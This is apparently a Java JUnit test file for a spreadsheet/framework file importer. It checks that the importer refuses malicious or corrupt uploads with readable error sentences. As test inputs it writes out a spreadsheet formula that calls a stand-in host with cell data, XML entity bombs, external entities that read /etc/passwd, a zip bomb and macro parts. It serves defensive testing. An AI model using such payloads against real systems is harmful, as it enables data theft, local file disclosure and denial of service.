package uk.alongside.frameworks.format;

import static org.assertj.core.api.Assertions.assertThat;
import static uk.alongside.frameworks.format.Sheets.fault;
import static uk.alongside.frameworks.format.Sheets.faults;
import static uk.alongside.frameworks.format.Sheets.row;
import static uk.alongside.frameworks.format.Sheets.utf8;
import static uk.alongside.frameworks.format.Sheets.with;
import static uk.alongside.frameworks.format.Sheets.workbook;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import uk.alongside.frameworks.FrameworkExamples;

/** Files that somebody made to do harm, or that a program broke: each is refused in a sentence, and nothing breaks. */
class HostileFileTests {

    private static final byte[] GOOD =
            new FrameworkWriting(FrameworkExamples.published(FrameworkExamples.content()), Optional.empty()).workbook();

    private static Map<String, byte[]> parts() {
        return new LinkedHashMap<>(Unpacked.files(GOOD, new Faults()).orElseThrow());
    }

    private static byte[] workbookWith(String part, String content) {
        var parts = parts();
        parts.put(part, utf8(content));
        return Unpacked.packed(parts);
    }

    @Test
    void formulaIsNotFollowed() {
        var fault = fault(workbook("statements", sheet -> {
            row(sheet, 0, "area", "code", "text", "guidance");
            row(sheet, 1, "1", "1.1", "Lit.");
            sheet.formula(1, 3, "WEBSERVICE(\"https://harm.example/\"&amp;A1)");
        }));
        assertThat(fault.line()).isEqualTo(2);
        assertThat(fault.column()).isEqualTo("guidance");
        assertThat(fault.sentence()).startsWith("This cell is a formula");
    }

    @Test
    void wordsThatWouldBeAFormulaStayWords() {
        var read = Sheets.good(with("statements.csv", "area,code,text\n1,1.1,\"'=HYPERLINK(\"\"x\"\")\"\n"));
        assertThat(read.content().statements().getFirst().text()).isEqualTo("=HYPERLINK(\"x\")");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "xl/vbaProject.bin",
                "XL/vbaproject.BIN",
                "xl/macrosheets/sheet1.xml",
                "xl/externalLinks/externalLink1.xml",
                "xl/embeddings/oleObject1.bin",
                "xl/activeX/activeX1.xml"
            })
    void workbookThatCouldDoSomethingIsRefused(String part) {
        assertThat(fault(workbookWith(part, "<x/>")).sentence()).containsAnyOf("macros", "links to other files");
    }

    @Test
    void entitiesAreNotFollowed() {
        var sheet = new String(parts().get("xl/sharedStrings.xml"), StandardCharsets.UTF_8);
        var bomb = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>"
                + sheet.substring(sheet.indexOf("?>") + 2).replaceFirst("<t>", "<t>&b;");
        assertThat(fault(workbookWith("xl/sharedStrings.xml", bomb)).sentence())
                .startsWith("The workbook holds declarations");
        var external = "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"file:///etc/passwd\">" + "<x/>";
        assertThat(fault(workbookWith("xl/workbook.xml", external)).sentence())
                .startsWith("The workbook holds declarations");
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16", "UTF-16LE", "UTF-16BE"})
    void entitiesInAnotherEncodingAreNotFollowedEither(String encoding) {
        var parts = parts();
        parts.put(
                "xl/workbook.xml",
                "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>"
                        .getBytes(Charset.forName(encoding)));
        assertThat(fault(Unpacked.packed(parts)).sentence()).startsWith("The workbook holds declarations");
    }

    @Test
    void encodingThatHidesADeclarationIsRefused() {
        assertThat(fault(workbookWith("xl/workbook.xml", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-x/+AD4-"))
                        .sentence())
                .startsWith("The workbook holds declarations");
    }

    @Test
    void smallFileDoesNotBecomeALargeOne() {
        var bomb = new byte[Limits.UNPACKED + 1];
        Arrays.fill(bomb, (byte) ' ');
        var zip = Unpacked.packed(Map.of("statements.csv", bomb));
        assertThat(zip.length).isLessThan(100_000);
        assertThat(fault(zip).sentence()).startsWith("The file is larger than 40 MB when unpacked");
        var parts = parts();
        parts.put("xl/worksheets/sheet9.xml", bomb);
        assertThat(fault(Unpacked.packed(parts)).sentence()).startsWith("The file is larger than 40 MB when unpacked");
    }

    @Test
    void zipWithThousandsOfFilesIsRefused() {
        var files = new LinkedHashMap<String, byte[]>();
        for (int i = 0; i < 1_000; i++) {
            files.put("sheet" + i + ".csv", utf8("a"));
        }
        assertThat(fault(Unpacked.packed(files)).sentence()).startsWith("The file holds more than 400 files");
    }

    @Test
    void hundredThousandRowsAreRefusedInASentence() {
        var rows = "1,1.1,Lit.\n".repeat(100_000);
        assertThat(fault(utf8("area,code,text\n" + rows)).sentence())
                .startsWith("This sheet has more than 50,000 rows");
        assertThat(fault(workbook("statements", sheet -> {
                            row(sheet, 0, "area", "code", "text");
                            for (int i = 1; i <= 100_000; i++) {
                                row(sheet, i, "1", "1." + i, "Lit.");
                            }
                        }))
                        .sentence())
                .startsWith("This sheet has more than 50,000 rows");
    }

    @Test
    void tooManyOfAnythingIsSaid() {
        var statements = new StringBuilder("area,code,text\n");
        for (int i = 0; i <= Limits.STATEMENTS; i++) {
            statements.append("1,1.").append(i).append(",Lit.\n");
        }
        assertThat(fault(with("statements.csv", statements.toString())).sentence())
                .isEqualTo("There are 601 statements here, and 600 at most can be kept.");
        statements.append(statements.substring(statements.indexOf("\n") + 1));
        assertThat(fault(with("statements.csv", statements.toString())).sentence())
                .startsWith("This sheet has 1,202 lines");
        assertThat(fault(with("statements.csv", "area,code,text\n1,1.1," + "x".repeat(2_001) + "\n"))
                        .sentence())
                .isEqualTo("This has 2,001 characters. Shorten it to at most 2,000.");
    }

    @Test
    void faultsAreCountedAndNotKeptWithoutEnd() {
        var wrong = "1,1.1,\n".repeat(1_000);
        assertThat(Sheets.read(with("statements.csv", "area,code,text\n" + wrong)))
                .isInstanceOfSatisfying(FrameworkFile.Refused.class, refused -> {
                    assertThat(refused.faults()).hasSize(200);
                    assertThat(refused.more()).isGreaterThan(1_000);
                });
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16LE", "UTF-16BE", "UTF-16"})
    void otherEncodingsAreNamed(String encoding) {
        var bytes = "\ufeffarea,code,text\n1,1.1,Café\n".getBytes(Charset.forName(encoding));
        assertThat(fault(bytes).sentence()).startsWith("This file is written in UTF-16");
    }

    @Test
    void oldWindowsFileIsNamedWithItsLine() {
        var bytes = "area,code,text\n1,1.1,Lit.\n1,1.2,Café\n".getBytes(Charset.forName("windows-1252"));
        assertThat(fault(bytes).line()).isEqualTo(3);
        assertThat(fault(bytes).sentence()).startsWith("A character of this line is not UTF-8 (byte E9)");
    }

    @Test
    void invisibleAndTurnedLettersAreNamed() {
        assertThat(fault(with("statements.csv", "area,code,text\n1,1.1,Lit\u202e.\n"))
                        .sentence())
                .startsWith("Character 4 is invisible (U+202E)");
        assertThat(fault(with("statements.csv", "area,code,text\n1,1.1,Lit\u0000.\n"))
                        .sentence())
                .startsWith("Character 4 is invisible (U+0000)");
    }

    @Test
    void quotationMarkThatIsNeverClosedIsNamedWhereItStands() {
        var fault = fault(with("statements.csv", "area,code,text\n1,1.1,\"Lit.\n1,1.2,Clean.\n"));
        assertThat(fault.sheet()).isEqualTo("statements");
        assertThat(fault.line()).isEqualTo(2);
    }

    @Test
    void otherFilesAreToldApart() {
        assertThat(fault(new byte[0]).sentence()).startsWith("The file is empty");
        assertThat(fault(utf8("%PDF-1.7\n")).sentence()).startsWith("This is a PDF");
        assertThat(fault(new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, 1, 2})
                        .sentence())
                .contains("older kind (XLS)");
        assertThat(fault(Unpacked.packed(Map.of("mimetype", utf8("application/vnd.oasis.opendocument.spreadsheet"))))
                        .sentence())
                .contains("OpenDocument");
        assertThat(fault(Unpacked.packed(Map.of("photo.png", new byte[] {1}))).sentence())
                .contains("no CSV files");
        assertThat(fault(utf8("Dear colleague,\nplease find attached.\n")).sentence())
                .contains("headings");
        assertThat(fault(new byte[Limits.FILE + 1]).sentence()).startsWith("The file is larger than 5 MB");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{",
                "[]",
                "[{}]",
                "{\"areas\": \"none\"}",
                "{\"areas\": [1, 2]}",
                "{\"name\": {\"a\": 1}, \"areas\": []}",
                "{\"name\": \"a\", \"name\": \"b\"}",
                "{} {}",
                "{\"scale\": [{\"label\": \"a\", \"points\": 1e999}], \"areas\": []}"
            })
    void brokenJsonIsRefusedInASentence(String json) {
        assertThat(faults(utf8(json)))
                .isNotEmpty()
                .allMatch(fault -> fault.sentence().length() > 20);
    }

    @Test
    void deepJsonIsRefused() {
        assertThat(fault(utf8("{\"a\":" + "[".repeat(100_000))).sentence()).startsWith("This is not JSON");
        assertThat(fault(utf8("{\"name\":\"" + "x".repeat(1_000_000) + "\"}")).sentence())
                .startsWith("This is not JSON");
    }

    @Test
    void zipThatWasCutShortOrScrambledIsRefused() {
        for (int length = 4; length < GOOD.length; length += 97) {
            assertThat(Sheets.read(Arrays.copyOf(GOOD, length))).isInstanceOf(FrameworkFile.Refused.class);
        }
        var random = new Random(1);
        for (int i = 0; i < 300; i++) {
            var scrambled = GOOD.clone();
            for (int j = 0; j < 20; j++) {
                scrambled[random.nextInt(scrambled.length)] = (byte) random.nextInt();
            }
            // Taken or refused: but never an exception.
            assertThat(Sheets.read(scrambled)).isNotNull();
        }
    }

    @Test
    void partsOfAWorkbookThatSayNonsenseAreRefused() {
        for (var part : parts().keySet()) {
            for (var nonsense : new String[] {
                "", "<x/>", "<worksheet><sheetData><row r='x'><c r='?'/></row></sheetData></worksheet>"
            }) {
                assertThat(Sheets.read(workbookWith(part, nonsense))).as(part).isNotNull();
            }
        }
        var parts = parts();
        parts.remove("xl/workbook.xml");
        assertThat(fault(Unpacked.packed(parts)).sentence()).startsWith("The workbook is damaged");
    }
}
